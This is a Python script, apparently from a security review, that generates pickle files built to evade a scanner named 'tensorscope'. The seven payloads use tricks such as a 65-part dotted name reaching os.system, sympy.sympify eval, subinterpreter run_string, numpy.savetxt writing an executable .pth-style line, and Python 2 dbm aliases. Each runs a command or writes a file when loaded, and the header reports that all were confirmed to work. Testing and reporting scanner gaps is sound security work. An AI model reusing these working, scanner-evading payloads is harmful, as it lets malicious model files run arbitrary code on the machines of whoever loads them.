# Payloads that tensorscope rates only "suspicious" although they run code or write files.
# Run: python g_denylist.py OUTDIR (the files in ../malicious/review36-*.pkl were written by it and
# confirmed under pickle.load in a fresh process: each marker file appeared).
# Each touches /tmp/r36-pvm/PWNED_<name> when loaded with pickle.load.
import struct, sys, os
OUT = sys.argv[1]; M = '/tmp/r36-pvm/PWNED_'
def su(s):  # BINUNICODE
    b = s.encode(); return b'X' + struct.pack('<I', len(b)) + b
def sbu(s): # SHORT_BINUNICODE
    b = s.encode(); assert len(b) < 256; return b'\x8c' + bytes([len(b)]) + b
def g(mod, name): return b'c' + mod.encode() + b'\n' + name.encode() + b'\n'
files = {}
# 1. protocol 4 dotted name with more than 64 parts: torch.serialization.os.path.os.path....os.system
name = 'os.' + 'path.os.' * 32 + 'system'
files['dotted65.pkl'] = (b'\x80\x04' + su('torch.serialization') + su(name) + b'\x93'
                        + su('touch ' + M + 'dotted65') + b'\x85R.')
# 2. sympy.sympify evaluates its string with eval
files['sympify.pkl'] = (b'\x80\x02' + g('sympy', 'sympify')
                        + su("__import__('os').system('touch %sympify')".replace('%', M)) + b'\x85R.')
# 3. _xxsubinterpreters: create an interpreter, run a string in it
files['xxsub.pkl'] = (b'\x80\x02' + g('_xxsubinterpreters', 'run_string')
                      + g('_xxsubinterpreters', 'create') + b')R'
                      + su("import os; os.system('touch %xxsub')".replace('%', M)) + b'\x86R.')
# 4. numpy.savetxt: attacker-chosen path and content (here a .pth-style line)
files['savetxt.pkl'] = (b'\x80\x02' + g('numpy', 'savetxt') + b'(' + su(M + 'savetxt')
                        + b']'
                        + su('%s') + su(' ') + su('\n') + su("import os; os.system('id')")
                        + su('') + su('') + b't' + b'R.')  # (fname, X, fmt, delim, newline, header, footer, comments)
# 5. numpy 2's real module names of denylisted numpy.lib.format / numpy.lib.npyio
files['np-format-impl.pkl'] = (b'\x80\x02' + g('numpy.lib._format_impl', 'open_memmap')
                               + su(M + 'format_impl') + su('w+') + b'\x86R.')
# 6. Python 2 module names that _compat_pickle maps to dbm (protocol < 3)
files['anydbm.pkl'] = (b'\x80\x02' + g('anydbm', 'open') + su(M + 'anydbm') + su('c') + b'\x86R.')
files['dumbdbm.pkl'] = (b'\x80\x02' + g('dumbdbm', 'open') + su(M + 'dumbdbm') + su('c') + b'\x86R.')
for k, v in files.items():
    open(os.path.join(OUT, k), 'wb').write(v)
